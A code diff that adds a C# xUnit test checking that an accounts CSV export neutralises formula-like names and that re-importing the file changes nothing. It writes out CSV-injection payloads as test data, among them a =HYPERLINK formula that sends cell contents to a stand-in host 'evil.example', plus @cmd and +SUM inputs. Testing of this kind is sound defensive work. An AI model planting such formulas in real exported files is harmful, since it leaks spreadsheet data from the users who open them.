@@ -343,6 +343,46 @@ public sealed class ImportApiTests(SeededApp app) : IClassFixture<SeededApp>
     }
 
     [Fact]
+    public async Task GetExport_FormulaLikeNames_NeutralisedInCsvAndImportBackChangesNothing()
+    {
+        using var client = ApiKeyClient();
+        // Stored through JSON, so the values are exactly these; each maps to the field the export must write.
+        (string Name, string Field)[] hostile =
+        [
+            ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\""),
+            ("+SUM(1,2)", "\"'+SUM(1,2)\""),
+            ("-2+3", "'-2+3"),
+            ("@cmd", "'@cmd"),
+            ("'=already quoted", "''=already quoted"),
+            ("-12.5", "-12.5"),
+        ];
+        var json = JsonSerializer.Serialize(hostile.Select((h, i) => new Dictionary<string, object>
+        {
+            ["external_id"] = $"EVIL-{i}", ["name"] = h.Name, ["segment"] = "SMB", ["created_at"] = "2025-05-01", ["status"] = "active",
+            ["territory"] = "=1+1",
+        }));
+        using (var stored = await client.PostAsync("/api/import/accounts", new StringContent(json, Encoding.UTF8, "application/json"), Ct))
+            Assert.True(stored.StatusCode == HttpStatusCode.OK, await stored.Content.ReadAsStringAsync(Ct));
+
+        var csv = await client.GetStringAsync("/api/export/accounts", Ct);
+        using var back = await PostCsvAsync(client, "accounts", csv);
+
+        var lines = csv.Split("\r\n");
+        for (var i = 0; i < hostile.Length; i++)
+        {
+            var line = Assert.Single(lines, l => l.StartsWith($"EVIL-{i},", StringComparison.Ordinal));
+            Assert.StartsWith($"EVIL-{i},{hostile[i].Field},SMB,'=1+1,", line);
+        }
+        Assert.True(back.StatusCode == HttpStatusCode.OK, await back.Content.ReadAsStringAsync(Ct));
+        var body = await JsonAsync(back);
+        Assert.Equal((0, 0), (body.GetProperty("inserted").GetInt32(), body.GetProperty("updated").GetInt32()));
+        var names = await WithDbAsync(Northwind, db => db.Accounts.Where(a => a.ExternalId.StartsWith("EVIL-"))
+            .OrderBy(a => a.ExternalId).Select(a => new { a.Name, a.Territory }).ToListAsync(Ct));
+        Assert.Equal(hostile.Select(h => h.Name), names.Select(n => n.Name));
+        Assert.All(names, n => Assert.Equal("=1+1", n.Territory));
+    }
+
+    [Fact]
     public async Task GetTemplate_EveryEntityInOrder_ImportsCleanly()
     {
         using var client = await DemoSession.SignedInClientAsync(app.Factory, DemoSession.ContosoAdmin);
